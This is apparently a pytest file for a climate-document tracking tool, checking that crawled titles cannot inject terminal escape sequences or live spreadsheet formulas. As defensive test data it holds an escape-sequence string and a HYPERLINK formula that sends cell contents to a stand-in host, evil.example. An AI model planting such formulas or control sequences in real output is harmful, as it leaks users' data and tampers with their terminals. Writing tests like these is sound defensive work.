"""Text from crawled pages reaches terminals and spreadsheets harmless: no escape sequence reaches the
terminal, no title becomes a live formula."""

from __future__ import annotations

import csv
from datetime import UTC, datetime

import openpyxl

from briefing.pack import build_pack
from core.safe_output import csv_cell, for_terminal
from tests.cli import a6watch
from tests.databases import database_url_for
from tests.test_recorder import doc, run, stored
from tests.test_recorder_meetings import mdoc, meeting

ESCAPES = "\x1b]0;owned\x07\x1b[31mred\x1b[0m\x9b2J\rback"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Annotated agenda")'


def test_control_characters_never_reach_the_terminal():
    shown = for_terminal(f"title {ESCAPES}\tcolumn\nline")
    assert not any(c in shown for c in "\x1b\x07\x9b\r") and "\t" in shown and "\n" in shown
    assert "red" in shown and "owned" in shown


def test_csv_cells_that_would_start_a_formula_are_quoted():
    assert [csv_cell(v) for v in ("=1+1", "+1", "-x", "@SUM(A1)", "\t=1", "Annotated agenda", 5, -5)] == [
        "'=1+1", "'+1", "'-x", "'@SUM(A1)", "'\t=1", "Annotated agenda", 5, -5]


def test_a_pack_spreadsheet_shows_a_formula_like_title_as_text(catalog, clock, tmp_path):
    run(catalog, clock, meeting(), mdoc("A6.4-SBM022-AA", FORMULA, role="annotated_agenda"), listing=False)
    pack = build_pack(catalog, tmp_path, "SBM022", datetime(2026, 6, 5, tzinfo=UTC))
    ws = openpyxl.load_workbook(pack.folder / "SBM022-documents.xlsx").active
    title = next(c for c in ws["B"] if c.value and "HYPERLINK" in str(c.value))
    assert title.data_type == "s" and title.value == FORMULA
    with (pack.folder / "SBM022-documents.csv").open(newline="", encoding="utf-8-sig") as fh:
        cells = [row[1] for row in csv.reader(fh)]
    assert "'" + FORMULA in cells


def test_search_changes_and_sql_print_no_escape_sequence(catalog, clock, tmp_path):
    run(catalog, clock, doc("FCCC/SBSTA/2026/1"))
    run(catalog, clock, doc("FCCC/SBSTA/2026/1"), doc("FCCC/SBSTA/2026/L.9", f"Draft {ESCAPES} conclusions"),
        stored("FCCC/SBSTA/2026/L.9", "c", text=f"The conclusions on ITMOs {ESCAPES} as adopted."))
    env = {"A6WATCH_DATA_DIR": str(tmp_path), "A6WATCH_CONFIG": str(tmp_path / "none.toml"),
           "A6WATCH_DATABASE_URL": database_url_for(tmp_path)}
    outputs = [a6watch("search", "ITMOs", env=env, cwd=tmp_path),
               a6watch("changes", env=env, cwd=tmp_path),
               a6watch("sql", "SELECT symbol, title FROM document", env=env, cwd=tmp_path),
               a6watch("sql", "SELECT symbol, title FROM document", "--format", "csv", env=env, cwd=tmp_path)]
    for proc in outputs:
        assert proc.returncode == 0, proc.stderr
        assert "conclusions" in proc.stdout or "L.9" in proc.stdout
        assert not any(c in proc.stdout for c in "\x1b\x07\x9b"), proc.args
    sheet = tmp_path / "out.xlsx"
    proc = a6watch("sql", f"SELECT '{FORMULA.replace(chr(39), chr(39) * 2)}' AS title", "--format", "xlsx",
                   "--out", str(sheet), env=env, cwd=tmp_path)
    assert proc.returncode == 0, proc.stderr
    cell = openpyxl.load_workbook(sheet).active["A2"]
    assert cell.data_type == "s" and cell.value == FORMULA
